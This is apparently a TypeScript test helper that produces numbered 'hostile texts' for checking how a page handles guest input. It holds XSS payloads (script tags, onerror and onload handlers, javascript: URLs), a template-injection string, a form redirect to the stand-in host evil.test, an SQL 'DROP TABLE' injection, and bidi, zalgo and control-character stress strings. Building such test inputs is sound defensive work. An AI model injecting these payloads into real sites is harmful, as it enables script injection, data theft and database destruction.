/** Functions that return texts with which guests might break a page. The number makes each text unique. */
const kinds: readonly ((number: number) => string)[] = [
	(at) => `<script>window.pwned=${at}</script>`,
	(at) => `<img src=x onerror=pwned=${at}>`,
	(at) => `" onmouseover="pwned=${at}" x="`,
	(at) => `' autofocus onfocus='pwned=${at}`,
	(at) => `javascript:pwned=${at}//`,
	(at) => `<a href="javascript:pwned=${at}">x</a>`,
	(at) => `data:text/html,${at}<script>parent.pwned=1</script>`,
	(at) => `</style><style>*{display:none}</style>${at}`,
	(at) => `${at}</script><script>pwned=1</script>`,
	(at) => `<!-- ${at} <![CDATA[ ]]> --!>`,
	(at) => `{{constructor.constructor("pwned=${at}")()}} \${pwned=1} <%= 1 %>`,
	(at) => `\u200f\u061cgnihtyreve nrut ${at}`,
	(at) => `\u200e\u200e\u200f\u200f never closed ${at}`,
	(at) => `a\u200bb\u200cc\u200dd\ufeffe\u2060f ${at}\u200f`,
	(at) => `Z${at}${"\u0301\u0327\u0489\u035c".repeat(125)}`,
	(at) => `${at}${"Donaudampfschifffahrt".repeat(5)}`.slice(0, 100),
	(at) => `שלום לכולם, חדר ${at}`,
	(at) => `مرحبا بالجميع ${at}`,
	(at) => `👨‍👩‍👧‍👦🏳️‍🌈🇫🇷 ${at} ${"🦦".repeat(30)}`,
	(at) => `abc שלום (${at}) def مرحبا [ghi]!`,
	(at) => `line ${at}\nline\r\nline\n\tline\n\n\n\nline`,
	(at) => `</title><svg/onload=pwned=${at}>`,
	(at) => `&lt;b&gt; &amp;amp; &#x3c;b> &quot; ${at}`,
	(at) => `<iframe srcdoc="<script>parent.pwned=${at}</script>">`,
	(at) => `<base href=//evil.test><form action=//evil.test/${at}>`,
	(at) => `bell\\u0007 escape\\u001b[31m ${at}\\b\\\\r`,
	(at) => `\ufffe\uffff ${at} \u2028next\u2029next`,
	(at) => `﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽ ${at}`,
	(at) => `${at}${"漢".repeat(90)}`,
	(at) => `-- ${at}'; DROP TABLE agents; --`,
];

/** The number of kinds. As many consecutive texts contain each kind once. */
export const KINDS = kinds.length;

/** The number of hostile texts: two of each kind. */
export const TEXTS = 60;

/** Returns a hostile text by its number, from 0. */
export function hostileText(number: number): string {
	const at = number % TEXTS;
	return kinds[at % kinds.length]?.(at) ?? "";
}

/** A letter with hundreds of combining accents, which fonts stack. */
export const towering = `Z${"\u0301".repeat(400)}`;

/** Changes a text so that a field accepts it: truncates or extends it to the bounds, and trims it. */
export function fit(text: string, most: number, least = 1): string {
	const cut = [...text.trim()].slice(0, most).join("").trim();
	return cut.padEnd(least, ".");
}
